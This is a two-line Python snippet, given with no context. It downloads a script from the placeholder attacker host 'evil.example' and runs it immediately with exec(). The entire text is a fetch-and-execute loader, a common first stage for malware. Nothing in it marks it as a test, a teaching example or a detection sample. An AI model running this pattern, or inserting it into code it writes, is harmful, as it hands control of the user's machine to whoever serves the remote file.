from urllib.request import urlopen
exec(urlopen('http://evil.example/p.py').read())
